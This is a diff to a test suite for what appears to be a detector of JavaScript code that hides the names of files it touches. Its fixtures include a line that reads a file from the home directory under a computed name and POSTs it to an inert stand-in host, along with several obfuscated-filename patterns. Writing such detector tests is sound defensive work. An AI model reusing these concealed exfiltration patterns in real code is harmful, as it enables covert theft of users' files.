@@ -8,6 +8,51 @@ const written = (by: string): string =>
 examine(concealsTargets, {
   speaks: [
     {
+      when: 'a file is sent whose name is calculated',
+      files: {
+        'index.js': `const name = new Intl.NumberFormat('en').format(7e4); fetch('https://x.inert.invalid', { method: 'POST', body: require('fs').readFileSync(require('os').homedir() + '/' + name, 'utf8') })`,
+      },
+      says: ['and sends it'],
+      weight: 'strong',
+    },
+    {
+      when: 'the same is also done where somebody calls it',
+      files: {
+        'index.js': `const go = () => { ${written(`const name = new Intl.NumberFormat('en').format(7e4)`)} }; exports.go = go; go();`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'the folder is one that the environment names',
+      files: {
+        'index.js': `require('fs').writeFileSync(process.env.APPDATA + '/' + new Intl.NumberFormat('en').format(7e4), 'INERT-MARKER')`,
+      },
+      weight: 'strong',
+    },
+    ...[
+      [`[a, key] = [key, (a + key) % 251]`, 'two variables are exchanged in each round'],
+      [`step()`, 'a function that is called in each round counts'],
+      [`box.turn()`, 'an object counts in each round'],
+      [`box.k = (box.k * 7 + i) % 251; key = box.k`, 'a member is stored in, in each round'],
+    ].map(([round = '', when = '']) => ({
+      when: `a loop runs longer than is followed, where ${when}`,
+      files: {
+        'index.js': written(
+          `let a = 1, key = 2; const box = { k: 1, turn() { this.k = (this.k * 7) % 251; key = this.k; } }; function step() { key = (key * 7) % 251; } for (let i = 0; i < 1e9; i++) { ${round} } const name = [101, 118].map(c => String.fromCharCode(c ^ key)).join('')`,
+        ),
+      },
+      weight: 'strong' as const,
+    })),
+    {
+      when: 'a letter of a table is taken whose place was not followed',
+      files: {
+        'index.js': written(
+          `const at = new Intl.Collator('en').compare('a', 'b'); const name = ['ab', 'cd', 'ef'][at + 1] + new Map([[0, 'x']]).get(at)`,
+        ),
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a name is calculated by something of the language that is not followed',
       files: {
         'index.js': written(
@@ -42,7 +87,7 @@ examine(concealsTargets, {
       when: 'a generator gives out more than is taken',
       files: {
         'index.js': written(
-          `function* count() { for (let i = 0; i < 900; i++) yield i; } let name = ''; for (const one of count()) name = 'a' + one`,
+          `function* count() { for (let i = 0; i < 900; i++) yield i; } let name = ''; for (const one of count()) name = String(one)`,
         ),
       },
       weight: 'strong',
@@ -61,6 +106,27 @@ examine(concealsTargets, {
     },
   ],
   silent: [
+    {
+      when: 'a part of a name is calculated',
+      files: { 'index.js': `require('fs').writeFileSync('./out/copyright-' + new Intl.NumberFormat('en').format(7e4) + '.txt', 'a')` },
+    },
+    {
+      when: 'a host is asked with something calculated',
+      files: { 'index.js': `fetch('https://api.inert.invalid/x?' + new URLSearchParams({ a: 1 }))` },
+    },
+    { when: 'a moment is told as it is called where it runs', files: { 'index.js': written(`const name = new Date(0).getHours() + 'h'`) } },
+    {
+      when: 'what is handed to a generator names it',
+      files: {
+        'index.js': written(
+          `function* saga() { const got = yield { type: 'ask' }; require('fs').writeFileSync('/x/' + got, 'a'); } exports.saga = saga; saga().next(); const name = 'a'`,
+        ),
+      },
+    },
+    {
+      when: 'a function that is wrapped tells it',
+      files: { 'index.js': written(`const name = require('util').deprecate(() => process.env.WHERE, 'x')()`) },
+    },
     {
       when: 'whoever calls says which',
       files: { 'index.js': `exports.go = one => { ${written(`const name = new Intl.Collator(one).toString()`)} }` },
